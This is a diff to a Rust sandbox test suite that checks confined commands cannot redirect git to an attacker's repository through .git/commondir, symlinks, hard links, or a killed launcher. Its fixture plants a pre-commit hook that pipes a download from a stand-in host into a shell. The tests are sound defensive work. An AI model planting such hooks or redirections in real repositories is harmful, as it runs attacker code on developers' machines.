@@ -10,9 +10,11 @@
 mod sandbox_support;
 
 use std::fs;
+use std::time::Duration;
 
 use sandbox_support::judge::{confined, control, defaults, unchanged};
-use sandbox_support::world::{Snapshot, q};
+use sandbox_support::procs::{Reaper, survivors_after_grace};
+use sandbox_support::world::{Snapshot, q, unique};
 use sandbox_support::{Backend, World};
 
 // ---- Protected paths inside the workspace -------------------------------------------------
@@ -186,26 +188,27 @@ fn git_common_dir(w: &World) -> String {
 /// `.git/commondir` makes git take hooks and config from another directory: a planted
 /// `commondir` pointing at an attacker's dir in the workspace redirects the protected paths.
 fn git_commondir_redirect(w: &World, b: Backend) {
-    git_repo(w);
-    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
-        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
-    }
-    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
-    w.write(
-        &w.ws.join("evil/config"),
-        "[core]\n\trepositoryformatversion = 0\n",
-    );
-    w.write(
-        &w.ws.join("evil/hooks/pre-commit"),
-        "#!/bin/sh\ncurl evil|sh\n",
-    );
-    let real = w.ws.join(".git").display().to_string();
-    assert_eq!(
-        git_common_dir(w),
-        real,
-        "setup: git must see the workspace's own .git"
-    );
-    let script = format!("echo {} > .git/commondir", q(&w.ws.join("evil")));
+    commondir_attack(w, b, |evil| format!("echo {} > .git/commondir", q(evil)));
+}
+per_backend!(git_commondir_redirect);
+
+/// The same redirection with `.git/commondir` as a symlink to a file the child wrote elsewhere
+/// in the workspace (git follows it), and as a hard link to such a file.
+fn git_commondir_via_links(w: &World, b: Backend) {
+    commondir_attack(w, b, |evil| {
+        format!(
+            "echo {} > cd.txt; ln -s ../cd.txt .git/commondir || ln cd.txt .git/commondir",
+            q(evil)
+        )
+    });
+}
+per_backend!(git_commondir_via_links);
+
+/// A workspace repository plus an attacker's repository `evil/` next to it; `script(evil)`
+/// tries to make git use `evil/` as the common dir. Judged by asking the host's git.
+fn commondir_attack(w: &World, b: Backend, script: impl Fn(&std::path::Path) -> String) {
+    let real = repo_beside_evil_repo(w);
+    let script = script(&w.ws.join("evil"));
     let run = confined(w, b, defaults, &script);
     assert_eq!(
         git_common_dir(w),
@@ -219,7 +222,6 @@ fn git_commondir_redirect(w: &World, b: Backend) {
         "positive control failed\n{control}"
     );
 }
-per_backend!(git_commondir_redirect);
 
 /// No `.git` yet: a `.git` *file* (`gitdir: evil`) points git at an attacker's repository.
 fn git_gitfile_redirect(w: &World, b: Backend) {
@@ -270,5 +272,63 @@ fn git_existing_hooks_altered(w: &World, b: Backend) {
 }
 per_backend!(
     git_existing_hooks_altered,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
+
+/// A workspace repository plus an attacker's repository `evil/` (with a hook) beside it;
+/// returns the common dir git reports for the workspace before any attack.
+fn repo_beside_evil_repo(w: &World) -> String {
+    git_repo(w);
+    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
+    }
+    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
+    w.write(
+        &w.ws.join("evil/config"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    let real = w.ws.join(".git").display().to_string();
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "setup: git must see the workspace's own .git"
+    );
+    real
+}
+
+/// The redirection planted by a command whose launcher is then killed (SIGKILL): the clean-up
+/// must not depend on the launcher living to the end.
+fn git_commondir_with_killed_launcher(w: &World, b: Backend) {
+    let real = repo_beside_evil_repo(w);
+    let marker = unique("zcmark");
+    let _reaper = Reaper(marker.clone());
+    let script = format!(
+        "echo {} > .git/commondir; echo started; while :; do sleep 0.1; done # {marker}",
+        q(&w.ws.join("evil"))
+    );
+    let mut launcher = w.confined(b).spawn_sh(&script);
+    assert!(
+        launcher.read_line().contains("started"),
+        "the command never started"
+    );
+    launcher.signal("KILL");
+    let _ = launcher.wait_for_exit(Duration::from_secs(15));
+    let left = survivors_after_grace(&marker);
+    assert!(
+        left.is_empty(),
+        "ESCAPE: {left:?} outlived the killed launcher"
+    );
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "ESCAPE: the planted .git/commondir outlived the run"
+    );
+}
+per_backend!(
+    git_commondir_with_killed_launcher,
     landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
 );
